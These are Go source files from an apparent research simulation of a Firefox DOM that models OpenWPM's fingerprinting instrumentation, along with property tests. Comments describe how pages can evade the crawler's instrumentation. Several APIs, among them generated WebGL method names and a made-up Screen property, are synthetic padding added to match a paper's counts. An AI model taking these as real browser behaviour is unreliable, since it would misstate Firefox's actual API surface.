		oscpu = "Intel Mac OS X 10.15"
	}
	g("platform", str(platform))
	g("oscpu", str(oscpu))
	g("hardwareConcurrency", func(*minjs.Object) minjs.Value { return minjs.Int(8) })
	g("appName", str("Netscape"))
	g("appVersion", str("5.0 ("+platform+")"))
	g("appCodeName", str("Mozilla"))
	g("product", str("Gecko"))
	g("productSub", str("20100101"))
	g("vendor", str(""))
	g("vendorSub", str(""))
	buildID := "20181001000000"
	g("buildID", str(buildID))
	g("doNotTrack", str("unspecified"))
	g("cookieEnabled", func(*minjs.Object) minjs.Value { return minjs.Boolean(true) })
	g("onLine", func(*minjs.Object) minjs.Value { return minjs.Boolean(true) })
	g("maxTouchPoints", func(*minjs.Object) minjs.Value { return minjs.Int(0) })
	plugins := it.NewArrayP()
	g("plugins", func(*minjs.Object) minjs.Value { return minjs.ObjectValue(plugins) })
	mimeTypes := it.NewArrayP()
	g("mimeTypes", func(*minjs.Object) minjs.Value { return minjs.ObjectValue(mimeTypes) })

	d.DefineMethod(np, "javaEnabled", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		return minjs.Boolean(false), nil
	})
	d.DefineMethod(np, "getGamepads", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		return minjs.ObjectValue(it.NewArrayP()), nil
	})
	d.DefineMethod(np, "registerProtocolHandler", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		return minjs.Undefined(), nil
	})
	d.DefineMethod(np, "taintEnabled", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		return minjs.Boolean(false), nil
	})
	d.DefineMethod(np, "sendBeacon", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		url := argStr(args, 0)
		body := argStr(args, 1)
		d.Host.Fetch(d.absURL(url), beaconType, "POST", body)
		return minjs.Boolean(true), nil
	})

	d.Window.SetNonEnum("navigator", minjs.ObjectValue(nav))
}

func (d *DOM) buildScreen() {
	sp := d.proto("Screen")
	scr := minjs.NewObject(sp)
	scr.Class = "Screen"
	d.Screen = scr
	cfg := d.Cfg
	num := func(n int) func(*minjs.Object) minjs.Value {
		return func(*minjs.Object) minjs.Value { return minjs.Int(n) }
	}
	g := func(name string, fn func(*minjs.Object) minjs.Value) {
		d.DefineGetter(sp, "Screen", name, fn)
	}
	g("width", num(cfg.ScreenW))
	g("height", num(cfg.ScreenH))
	g("availWidth", num(cfg.ScreenW-cfg.AvailLeft))
	g("availHeight", num(cfg.ScreenH-cfg.AvailTop))
	g("availTop", num(cfg.AvailTop))
	g("availLeft", num(cfg.AvailLeft))
	g("colorDepth", num(24))
	g("pixelDepth", num(24))
	g("top", num(0))
	g("left", num(0))
	if cfg.OS == MacOS {
		// Synthetic platform-specific attribute: the macOS build exposes one
		// extra Screen property, giving the +253 (vs +252) tampering count
		// of Table 2.
		g("mozBrightness", func(*minjs.Object) minjs.Value { return minjs.Number(1) })
	}
	d.Window.SetNonEnum("screen", minjs.ObjectValue(scr))
}

func (d *DOM) buildWindowProps() {
	w := d.Window
	cfg := d.Cfg
	x := cfg.WindowX + cfg.OffsetX*cfg.WindowIndex
	y := cfg.WindowY + cfg.OffsetY*cfg.WindowIndex

	w.SetNonEnum("innerWidth", minjs.Int(cfg.WindowW))
	w.SetNonEnum("innerHeight", minjs.Int(cfg.WindowH))
	w.SetNonEnum("outerWidth", minjs.Int(cfg.WindowW))
	w.SetNonEnum("outerHeight", minjs.Int(cfg.WindowH+74)) // chrome height
	w.SetNonEnum("screenX", minjs.Int(x))
	w.SetNonEnum("screenY", minjs.Int(y))
	w.SetNonEnum("mozInnerScreenX", minjs.Int(x))
	w.SetNonEnum("mozInnerScreenY", minjs.Int(y+74))
	w.SetNonEnum("devicePixelRatio", minjs.Number(1))
	w.SetNonEnum("name", minjs.String(""))
	w.SetNonEnum("status", minjs.String(""))
	w.SetNonEnum("closed", minjs.Boolean(false))
	w.SetNonEnum("self", minjs.ObjectValue(w))
	w.SetNonEnum("window", minjs.ObjectValue(w))

	// top / parent resolve dynamically so subframes see their ancestors.
	topGetter := d.It.NewNative("get top", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		cur := d
		for cur.Parent != nil {
			cur = cur.Parent
		}
		return minjs.ObjectValue(cur.Window), nil
	})
	w.DefineAccessor("top", topGetter, nil, false)
	parentGetter := d.It.NewNative("get parent", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		if d.Parent != nil {
			return minjs.ObjectValue(d.Parent.Window), nil
		}
		return minjs.ObjectValue(w), nil
	})
	w.DefineAccessor("parent", parentGetter, nil, false)

	// frames: a live array of subframe windows.
	framesGetter := d.It.NewNative("get frames", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		arr := it.NewArrayP()
		for _, f := range d.Frames {
			arr.Elems = append(arr.Elems, minjs.ObjectValue(f.Window))
		}
		return minjs.ObjectValue(arr), nil
	})
	w.DefineAccessor("frames", framesGetter, nil, false)
	lengthGetter := d.It.NewNative("get length", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		return minjs.Int(len(d.Frames)), nil
	})
	w.DefineAccessor("length", lengthGetter, nil, false)

	// location
	loc := minjs.NewObject(d.It.Protos.Object)
	loc.Class = "Location"
	d.Location = loc
	d.refreshLocation()
	w.SetNonEnum("location", minjs.ObjectValue(loc))

	// timers
	w.SetNonEnum("setTimeout", minjs.ObjectValue(d.It.NewNative("setTimeout", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		fnV := argVal(args, 0)
		if !fnV.IsFunction() {
			return minjs.Int(0), nil
		}
		delay := argVal(args, 1).ToNumber()
		var rest []minjs.Value
		if len(args) > 2 {
			rest = args[2:]
		}
		id := d.Host.SetTimeout(fnV.Obj, rest, delay)
		return minjs.Int(id), nil
	})))
	w.SetNonEnum("clearTimeout", minjs.ObjectValue(d.It.NewNative("clearTimeout", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		d.Host.ClearTimeout(int(argVal(args, 0).ToNumber()))
		return minjs.Undefined(), nil
	})))
	w.SetNonEnum("setInterval", minjs.ObjectValue(d.It.NewNative("setInterval", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		// intervals degrade to a single shot in the simulation
		fnV := argVal(args, 0)
		if !fnV.IsFunction() {
			return minjs.Int(0), nil
		}
		id := d.Host.SetTimeout(fnV.Obj, nil, argVal(args, 1).ToNumber())
		return minjs.Int(id), nil
	})))
	w.SetNonEnum("clearInterval", minjs.ObjectValue(d.It.NewNative("clearInterval", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		d.Host.ClearTimeout(int(argVal(args, 0).ToNumber()))
		return minjs.Undefined(), nil
	})))

	// window.open
	w.SetNonEnum("open", minjs.ObjectValue(d.It.NewNative("open", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		url := d.absURL(argStr(args, 0))
		nd, err := d.Host.OpenWindow(url)
		if err != nil || nd == nil {
			return minjs.Null(), nil
		}
		return minjs.ObjectValue(nd.Window), nil
	})))

	w.SetNonEnum("addEventListener", minjs.ObjectValue(d.It.NewNative("addEventListener", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		d.addPageListener(argStr(args, 0), argVal(args, 1))
		return minjs.Undefined(), nil
	})))
	w.SetNonEnum("removeEventListener", minjs.ObjectValue(d.It.NewNative("removeEventListener", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		return minjs.Undefined(), nil
	})))

	// localStorage: an in-memory Storage object.
	store := map[string]string{}
	ls := minjs.NewObject(d.It.Protos.Object)
	ls.Class = "Storage"
	d.DefineMethod(ls, "getItem", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		if v, ok := store[argStr(args, 0)]; ok {
			return minjs.String(v), nil
		}
		return minjs.Null(), nil
	})
	d.DefineMethod(ls, "setItem", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		store[argStr(args, 0)] = argStr(args, 1)
		return minjs.Undefined(), nil
	})
	d.DefineMethod(ls, "removeItem", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		delete(store, argStr(args, 0))
		return minjs.Undefined(), nil
	})
	w.SetNonEnum("localStorage", minjs.ObjectValue(ls))
}

// refreshLocation re-derives location fields from d.URL.
func (d *DOM) refreshLocation() {
	scheme, host, path := splitURL(d.URL)
	d.Location.Set("href", minjs.String(d.URL))
	d.Location.Set("protocol", minjs.String(scheme+":"))
	d.Location.Set("host", minjs.String(host))
	d.Location.Set("hostname", minjs.String(host))
	d.Location.Set("pathname", minjs.String(path))
	d.Location.Set("origin", minjs.String(scheme+"://"+host))
}

func splitURL(url string) (scheme, host, path string) {
	rest := url
	if i := strings.Index(rest, "://"); i >= 0 {
		scheme = rest[:i]
		rest = rest[i+3:]
	}
	if i := strings.IndexByte(rest, '/'); i >= 0 {
		host, path = rest[:i], rest[i:]
	} else {
		host, path = rest, "/"
	}
	return
}

// absURL resolves ref against the document URL.
func (d *DOM) absURL(ref string) string {
	if strings.Contains(ref, "://") || d.URL == "" {
		return ref
	}
	scheme, host, basePath := splitURL(d.URL)
	if strings.HasPrefix(ref, "/") {
		return scheme + "://" + host + ref
	}
	dir := basePath
	if i := strings.LastIndexByte(dir, '/'); i >= 0 {
		dir = dir[:i+1]
	}
	return scheme + "://" + host + dir + ref
}

func (d *DOM) addPageListener(event string, fn minjs.Value) {
	if fn.IsFunction() {
		d.pageListeners[event] = append(d.pageListeners[event], fn.Obj)
	}
}

// PageListeners returns registered page listeners for an event type; the
// crawler can fire them to simulate interaction.
func (d *DOM) PageListeners(event string) []*minjs.Object { return d.pageListeners[event] }

// ListenHostEvent registers an extension-side listener for events delivered
// through the original native dispatchEvent. This models the content script
// of OpenWPM's extension receiving instrumentation messages.
func (d *DOM) ListenHostEvent(eventType string, fn func(ev minjs.Value)) {
	d.hostListeners[eventType] = append(d.hostListeners[eventType], fn)
}

// deliverHostEvent routes an event object to host listeners by its type.
func (d *DOM) deliverHostEvent(ev minjs.Value) {
	if !ev.IsObject() {
		return
	}
	t, _ := d.It.GetMember(ev, "type")
	for _, fn := range d.hostListeners[t.ToString()] {
		fn(ev)
	}
}

func argVal(args []minjs.Value, i int) minjs.Value {
	if i < len(args) {
		return args[i]
	}
	return minjs.Undefined()
}

func argStr(args []minjs.Value, i int) string {
	v := argVal(args, i)
	if v.IsUndefined() {
		return ""
	}
	return v.ToString()
}
