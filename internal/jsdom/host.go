package jsdom

import (
	"gullible/internal/httpsim"
	"gullible/internal/minjs"
)

// Host is the bridge from the object model to the embedding browser: timers,
// network, cookies and frame creation. Package browser implements it.
type Host interface {
	// Now returns virtual time in milliseconds.
	Now() float64
	// SetTimeout schedules fn(args...) after delayMS of virtual time and
	// returns a timer id.
	SetTimeout(fn *minjs.Object, args []minjs.Value, delayMS float64) int
	// ClearTimeout cancels a pending timer.
	ClearTimeout(id int)
	// Fetch performs a subresource request on behalf of page script.
	Fetch(url string, rtype httpsim.ResourceType, method, body string) (status int, contentType, respBody string, err error)
	// CookieString renders the cookies readable by document.cookie.
	CookieString() string
	// SetCookieString stores a document.cookie assignment.
	SetCookieString(s string)
	// CreateFrame synchronously creates and loads a subframe document and
	// returns its DOM. The host decides when (and whether) frame-creation
	// observers — e.g. the JS instrument — run; the vanilla instrument runs
	// them a tick later, which is the unobserved-channel bug of Sec. 5.4.
	CreateFrame(src string) (*DOM, error)
	// OpenWindow implements window.open.
	OpenWindow(url string) (*DOM, error)
	// DocumentWrite lets a script append raw HTML to the current document.
	DocumentWrite(html string)
}

// NopHost is a Host that does nothing; tests use it when only the object
// graph matters.
type NopHost struct{ Clock float64 }

// Now implements Host.
func (h *NopHost) Now() float64 { return h.Clock }

// SetTimeout implements Host; timers never fire.
func (h *NopHost) SetTimeout(fn *minjs.Object, args []minjs.Value, delayMS float64) int { return 0 }

// ClearTimeout implements Host.
func (h *NopHost) ClearTimeout(id int) {}

// Fetch implements Host; all requests 404.
func (h *NopHost) Fetch(url string, rtype httpsim.ResourceType, method, body string) (int, string, string, error) {
	return 404, "text/plain", "", nil
}

// CookieString implements Host.
func (h *NopHost) CookieString() string { return "" }

// SetCookieString implements Host.
func (h *NopHost) SetCookieString(s string) {}

// CreateFrame implements Host; frames are unavailable.
func (h *NopHost) CreateFrame(src string) (*DOM, error) { return nil, errNoFrames }

// OpenWindow implements Host.
func (h *NopHost) OpenWindow(url string) (*DOM, error) { return nil, errNoFrames }

// DocumentWrite implements Host.
func (h *NopHost) DocumentWrite(html string) {}

type noFramesError struct{}

func (noFramesError) Error() string { return "jsdom: host does not support frames" }

var errNoFrames = noFramesError{}
