package jsdom

import (
	"fmt"

	"gullible/internal/minjs"
)

// realWebGLMethods is a representative slice of the WebGL 1.0 API surface.
var realWebGLMethods = []string{
	"activeTexture", "attachShader", "bindAttribLocation", "bindBuffer",
	"bindFramebuffer", "bindRenderbuffer", "bindTexture", "blendColor",
	"blendEquation", "blendEquationSeparate", "blendFunc", "blendFuncSeparate",
	"bufferData", "bufferSubData", "checkFramebufferStatus", "clear",
	"clearColor", "clearDepth", "clearStencil", "colorMask", "compileShader",
	"compressedTexImage2D", "copyTexImage2D", "createBuffer",
	"createFramebuffer", "createProgram", "createRenderbuffer", "createShader",
	"createTexture", "cullFace", "deleteBuffer", "deleteFramebuffer",
	"deleteProgram", "deleteRenderbuffer", "deleteShader", "deleteTexture",
	"depthFunc", "depthMask", "depthRange", "detachShader", "disable",
	"disableVertexAttribArray", "drawArrays", "drawElements", "enable",
	"enableVertexAttribArray", "finish", "flush", "framebufferRenderbuffer",
	"framebufferTexture2D", "frontFace", "generateMipmap", "getActiveAttrib",
	"getActiveUniform", "getAttachedShaders", "getAttribLocation",
	"getBufferParameter", "getContextAttributes", "getError", "getExtension",
	"getFramebufferAttachmentParameter", "getParameter", "getProgramInfoLog",
	"getProgramParameter", "getRenderbufferParameter", "getShaderInfoLog",
}

// webGLMethodCount is the number of methods on WebGLRenderingContext.prototype;
// beyond the real names above, generated names fill the surface so the
// instrumented-API totals of Table 2 come out exactly (+252 / +253).
const webGLMethodCount = 145 // +getSupportedExtensions = 146 own methods

// WebGL parameter name constants probed via getParameter.
const (
	pVendor     = "VENDOR"
	pRenderer   = "RENDERER"
	pVersion    = "VERSION"
	pShadingVer = "SHADING_LANGUAGE_VERSION"
	pMaxTexture = "MAX_TEXTURE_SIZE"
)

func (d *DOM) buildWebGLProto() {
	wp := d.Protos["WebGLRenderingContext"]
	names := make([]string, 0, webGLMethodCount)
	names = append(names, realWebGLMethods...)
	for i := len(names); i < webGLMethodCount; i++ {
		names = append(names, fmt.Sprintf("mozGLOperation%03d", i))
	}
	for _, m := range names {
		if m == "getParameter" {
			d.DefineMethod(wp, m, func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
				ctx := d.WebGL()
				if ctx == nil {
					return minjs.Null(), nil
				}
				return it.GetMember(minjs.ObjectValue(ctx), argStr(args, 0))
			})
			continue
		}
		if m == "getSupportedExtensions" {
			continue
		}
		d.DefineMethod(wp, m, func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
			return minjs.Undefined(), nil
		})
	}
	d.DefineMethod(wp, "getSupportedExtensions", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		arr := it.NewArrayP()
		arr.Elems = append(arr.Elems, minjs.String("OES_texture_float"), minjs.String("WEBGL_debug_renderer_info"))
		return minjs.ObjectValue(arr), nil
	})
}

// WebGL returns the realm's WebGL context, creating it on first use, or nil
// when the configuration has no WebGL implementation (headless mode).
func (d *DOM) WebGL() *minjs.Object {
	if !d.Cfg.WebGL.Present {
		return nil
	}
	if d.webglCtx != nil {
		return d.webglCtx
	}
	ctx := minjs.NewObject(d.Protos["WebGLRenderingContext"])
	ctx.Class = "WebGLRenderingContext"
	info := d.Cfg.WebGL

	// Named GPU-identifying parameters.
	ctx.Set(pVendor, minjs.String(info.Vendor))
	ctx.Set(pRenderer, minjs.String(info.Renderer))
	version := "WebGL 1.0"
	shading := "WebGL GLSL ES 1.0"
	maxTex := 16384
	if info.ChangedParams > 0 || info.MissingParams > 0 {
		// software rasteriser builds report different capability values
		version = "WebGL 1.0 (software)"
		shading = "WebGL GLSL ES 1.0 (software)"
		maxTex = 8192
	}
	ctx.Set(pVersion, minjs.String(version))
	ctx.Set(pShadingVer, minjs.String(shading))
	ctx.Set(pMaxTexture, minjs.Int(maxTex))

	// Generated parameter surface. ParamCount is the total flat property
	// count on the context (the five named parameters above included).
	generated := info.ParamCount - 5
	for i := 0; i < generated; i++ {
		if i < info.MissingParams {
			continue // this build lacks these parameters entirely
		}
		val := minjs.Int(1024 + i)
		if i < info.MissingParams+info.ChangedParams {
			val = minjs.Int(512 + i) // deviating value on software GL
		}
		ctx.Set(fmt.Sprintf("GL_PARAM_%04d", i), val)
	}
	d.webglCtx = ctx
	return ctx
}
