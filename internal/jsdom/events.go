package jsdom

import "gullible/internal/minjs"

// buildEvents installs the Event and CustomEvent constructors. Events are
// plain objects with type/detail fields; OpenWPM's vanilla instrument uses
// CustomEvent + document.dispatchEvent as its message transport.
func (d *DOM) buildEvents() {
	it := d.It
	evProto := d.Protos["Event"]
	ceProto := d.Protos["CustomEvent"]
	ceProto.Proto = evProto

	makeCtor := func(name string, proto *minjs.Object, withDetail bool) *minjs.Object {
		ctor := it.NewNative(name, func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
			ev := this
			if !ev.IsObject() || ev.Obj == it.Global {
				ev = minjs.ObjectValue(minjs.NewObject(proto))
			}
			ev.Obj.Class = name
			ev.Obj.Set("type", minjs.String(argStr(args, 0)))
			ev.Obj.Set("bubbles", minjs.Boolean(false))
			ev.Obj.Set("cancelable", minjs.Boolean(false))
			ev.Obj.Set("timeStamp", minjs.Number(d.Host.Now()))
			if withDetail {
				init := argVal(args, 1)
				detail := minjs.Undefined()
				if init.IsObject() {
					detail, _ = it.GetMember(init, "detail")
				}
				ev.Obj.Set("detail", detail)
			}
			return ev, nil
		})
		ctor.SetNonEnum("prototype", minjs.ObjectValue(proto))
		proto.SetNonEnum("constructor", minjs.ObjectValue(ctor))
		return ctor
	}
	d.Window.SetNonEnum("Event", minjs.ObjectValue(makeCtor("Event", evProto, false)))
	d.Window.SetNonEnum("CustomEvent", minjs.ObjectValue(makeCtor("CustomEvent", ceProto, true)))

	d.DefineMethod(evProto, "preventDefault", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		return minjs.Undefined(), nil
	})
	d.DefineMethod(evProto, "stopPropagation", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		return minjs.Undefined(), nil
	})
}

// FireListeners invokes page-registered listeners for event type with a fresh
// Event object; the crawler uses this to simulate interaction (hover, click).
func (d *DOM) FireListeners(eventType string) error {
	listeners := d.pageListeners[eventType]
	if len(listeners) == 0 {
		return nil
	}
	ev := minjs.NewObject(d.Protos["Event"])
	ev.Class = "Event"
	ev.Set("type", minjs.String(eventType))
	for _, fn := range listeners {
		if _, err := d.It.CallFunction(fn, minjs.ObjectValue(d.Document), []minjs.Value{minjs.ObjectValue(ev)}); err != nil {
			return err
		}
	}
	return nil
}
