package jsdom

import (
	"testing"
	"testing/quick"

	"gullible/internal/minjs"
)

// Property: every standard configuration builds a realm whose core surface
// is present and consistent — availWidth/Height never exceed width/height,
// the window fits the screen claim, and the user agent names the version.
func TestQuickConfigInvariants(t *testing.T) {
	f := func(osPick, modePick, verPick, idxPick uint8) bool {
		os := OS(osPick % 2)
		var mode Mode
		if os == MacOS {
			mode = Mode(modePick % 2) // macOS: regular/headless only
		} else {
			mode = Mode(modePick % 4)
		}
		ff := 78 + int(verPick%30)
		cfg := StandardConfig(os, mode, ff, int(idxPick%5))
		d := Build(cfg, &NopHost{}, "https://probe.test/")
		get := func(expr string) minjs.Value {
			v, err := d.It.RunScript(expr, "q.js")
			if err != nil {
				t.Logf("%s: %v", expr, err)
				return minjs.Undefined()
			}
			return v
		}
		if get("screen.availWidth").ToNumber() > get("screen.width").ToNumber() {
			return false
		}
		if get("screen.availHeight").ToNumber() > get("screen.height").ToNumber() {
			return false
		}
		if get("navigator.webdriver").Kind != minjs.KindBool {
			return false
		}
		ua := get("navigator.userAgent").ToString()
		if len(ua) == 0 {
			return false
		}
		// WebGL presence must match the config
		ctx := get(`document.createElement("canvas").getContext("webgl")`)
		if cfg.WebGL.Present == (ctx.Kind == minjs.KindNull) {
			return false
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 40}); err != nil {
		t.Fatal(err)
	}
}

// Property: the same configuration always yields template-identical realms
// (full determinism of the object model).
func TestQuickBuildDeterministic(t *testing.T) {
	f := func(osPick, modePick uint8) bool {
		os := OS(osPick % 2)
		var mode Mode
		if os == MacOS {
			mode = Mode(modePick % 2)
		} else {
			mode = Mode(modePick % 4)
		}
		cfg := StandardConfig(os, mode, 90, 0)
		a := Build(cfg, &NopHost{}, "https://probe.test/")
		b := Build(cfg, &NopHost{}, "https://probe.test/")
		ka := a.WebGLOwnKeyCount()
		kb := b.WebGLOwnKeyCount()
		if ka != kb {
			return false
		}
		va, _ := a.It.RunScript("Object.getOwnPropertyNames(Object.getPrototypeOf(navigator)).length", "q.js")
		vb, _ := b.It.RunScript("Object.getOwnPropertyNames(Object.getPrototypeOf(navigator)).length", "q.js")
		return va.ToNumber() == vb.ToNumber()
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 20}); err != nil {
		t.Fatal(err)
	}
}

// WebGLOwnKeyCount exposes the context's property count for tests.
func (d *DOM) WebGLOwnKeyCount() int {
	ctx := d.WebGL()
	if ctx == nil {
		return -1
	}
	return len(ctx.OwnKeys(false))
}

// Property: InstrumentableAPIs always resolves to live properties — every
// entry can be found on its prototype chain.
func TestQuickInstrumentableAPIsResolvable(t *testing.T) {
	for _, os := range []OS{MacOS, Ubuntu} {
		d := Build(StandardConfig(os, Regular, 90, 0), &NopHost{}, "https://probe.test/")
		for _, api := range d.InstrumentableAPIs() {
			if owner, prop := api.Proto.FindProperty(api.Name); owner == nil || prop == nil {
				t.Errorf("%s: API %s unresolvable", os, api.Path())
			}
		}
	}
}
