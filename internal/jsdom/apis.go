package jsdom

import "gullible/internal/minjs"

// APIRef names one hookable API: a property on an interface prototype.
type APIRef struct {
	Interface string
	Proto     *minjs.Object
	Name      string
	Accessor  bool // attribute getter rather than a method
}

// Path returns the canonical "Interface.property" name used in call logs.
func (r APIRef) Path() string { return r.Interface + "." + r.Name }

// documentInstrumented is the subset of Document attributes OpenWPM's default
// configuration hooks (the rest of Document.prototype is DOM plumbing).
var documentInstrumented = []string{
	"cookie", "referrer", "title", "hidden", "visibilityState", "lastModified",
}

// InstrumentableAPIs enumerates the fingerprinting-related APIs that
// OpenWPM's JS instrument hooks by default. On the Ubuntu build this yields
// 252 APIs, on macOS 253 (Table 2: "+252 / +253 through tampering").
func (d *DOM) InstrumentableAPIs() []APIRef {
	var out []APIRef
	add := func(iface string, names []string) {
		proto := d.Protos[iface]
		for _, n := range names {
			p := proto.GetOwn(n)
			if p == nil {
				continue
			}
			out = append(out, APIRef{Interface: iface, Proto: proto, Name: n, Accessor: p.Accessor})
		}
	}
	all := func(iface string) []string {
		proto := d.Protos[iface]
		var names []string
		for _, k := range proto.OwnKeys(false) {
			if k == "constructor" {
				continue
			}
			names = append(names, k)
		}
		return names
	}
	add("Navigator", all("Navigator"))
	add("Screen", all("Screen"))
	add("Document", documentInstrumented)
	add("HTMLCanvasElement", all("HTMLCanvasElement"))
	add("CanvasRenderingContext2D", all("CanvasRenderingContext2D"))
	add("WebGLRenderingContext", all("WebGLRenderingContext"))
	add("AudioContext", all("AudioContext"))
	return out
}
