package jsdom

import (
	"fmt"
	"strings"

	"gullible/internal/minjs"
	"gullible/internal/scriptcache"
)

func (d *DOM) buildPrototypes() {
	// Core interface prototypes created up front so instrumentation can
	// enumerate them even before first use.
	d.proto("Navigator")
	d.proto("Screen")
	d.proto("Document")
	d.proto("HTMLElement")
	d.proto("HTMLCanvasElement")
	d.proto("HTMLIFrameElement")
	d.proto("HTMLImageElement")
	d.proto("HTMLScriptElement")
	d.proto("CanvasRenderingContext2D")
	d.proto("WebGLRenderingContext")
	d.proto("AudioContext")
	d.proto("Event")
	d.proto("CustomEvent")

	// element prototype chain: HTML*Element -> HTMLElement
	for _, sub := range []string{"HTMLCanvasElement", "HTMLIFrameElement", "HTMLImageElement", "HTMLScriptElement"} {
		d.Protos[sub].Proto = d.Protos["HTMLElement"]
	}
	d.buildElementProtos()
	d.buildCanvasProtos()
	d.buildWebGLProto()
	d.buildAudioProto()
	d.buildEvents()
}

func (d *DOM) buildDocument() {
	dp := d.Protos["Document"]
	// Firefox documents sit behind a two-level chain:
	// document → HTMLDocument.prototype → Document.prototype. The attribute
	// getters live on Document.prototype; naive instrumentation that hooks
	// everything onto the FIRST prototype pollutes HTMLDocument.prototype
	// (Fig. 2 of the paper).
	hdp := d.proto("HTMLDocument")
	hdp.Proto = dp
	doc := minjs.NewObject(hdp)
	doc.Class = "Document"
	d.Document = doc

	// Attribute-style getters instrumented by OpenWPM's default config.
	d.DefineGetter(dp, "Document", "referrer", func(*minjs.Object) minjs.Value { return minjs.String("") })
	d.DefineGetter(dp, "Document", "title", func(*minjs.Object) minjs.Value { return minjs.String("") })
	d.DefineGetter(dp, "Document", "hidden", func(*minjs.Object) minjs.Value { return minjs.Boolean(false) })
	d.DefineGetter(dp, "Document", "visibilityState", func(*minjs.Object) minjs.Value { return minjs.String("visible") })
	d.DefineGetter(dp, "Document", "lastModified", func(*minjs.Object) minjs.Value { return minjs.String("01/01/2022 00:00:00") })

	// document.cookie: accessor bridging to the host cookie jar.
	cookieGetter := d.It.NewNative("get cookie", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		return minjs.String(d.Host.CookieString()), nil
	})
	cookieSetter := d.It.NewNative("set cookie", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		d.Host.SetCookieString(argStr(args, 0))
		return minjs.Undefined(), nil
	})
	dp.DefineAccessor("cookie", cookieGetter, cookieSetter, true)

	doc.SetNonEnum("readyState", minjs.String("complete"))
	doc.SetNonEnum("domain", minjs.String(hostOf(d.URL)))
	doc.SetNonEnum("documentURI", minjs.String(d.URL))
	doc.SetNonEnum("characterSet", minjs.String("UTF-8"))
	doc.SetNonEnum("compatMode", minjs.String("CSS1Compat"))

	// document.fonts: enumeration surface (Docker exposes a single font).
	fonts := minjs.NewObject(d.It.Protos.Object)
	fonts.Class = "FontFaceSet"
	fonts.SetNonEnum("size", minjs.Int(len(d.Cfg.Fonts)))
	list := d.It.NewArrayP()
	for _, f := range d.Cfg.Fonts {
		list.Elems = append(list.Elems, minjs.String(f))
	}
	d.DefineMethod(fonts, "values", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		return minjs.ObjectValue(list), nil
	})
	d.DefineMethod(fonts, "check", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		want := strings.ToLower(argStr(args, 0))
		for _, f := range d.Cfg.Fonts {
			if strings.Contains(want, strings.ToLower(f)) {
				return minjs.Boolean(true), nil
			}
		}
		return minjs.Boolean(false), nil
	})
	doc.SetNonEnum("fonts", minjs.ObjectValue(fonts))

	// DOM construction and lookup.
	d.DefineMethod(dp, "createElement", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		return minjs.ObjectValue(d.NewElement(strings.ToLower(argStr(args, 0)))), nil
	})
	d.DefineMethod(dp, "getElementById", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		if el, ok := d.elementsByID[argStr(args, 0)]; ok {
			return minjs.ObjectValue(el), nil
		}
		return minjs.Null(), nil
	})
	d.DefineMethod(dp, "querySelector", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		sel := argStr(args, 0)
		if strings.HasPrefix(sel, "#") {
			if el, ok := d.elementsByID[sel[1:]]; ok {
				return minjs.ObjectValue(el), nil
			}
			// Pages always have an implicit container for any id selector:
			// attacks like Listing 3 query arbitrary ids.
			el := d.NewElement("div")
			el.Set("id", minjs.String(sel[1:]))
			d.elementsByID[sel[1:]] = el
			return minjs.ObjectValue(el), nil
		}
		return minjs.Null(), nil
	})
	d.DefineMethod(dp, "getElementsByTagName", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		return minjs.ObjectValue(it.NewArrayP()), nil
	})
	d.DefineMethod(dp, "write", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		d.Host.DocumentWrite(argStr(args, 0))
		return minjs.Undefined(), nil
	})
	d.DefineMethod(dp, "addEventListener", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		d.addPageListener(argStr(args, 0), argVal(args, 1))
		return minjs.Undefined(), nil
	})
	d.DefineMethod(dp, "removeEventListener", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		return minjs.Undefined(), nil
	})

	// The native event dispatcher: delivers to extension-side listeners.
	// It is deliberately an ordinary (shadowable) property — the page can
	// replace document.dispatchEvent, which is the Sec. 5.1/5.2 attack.
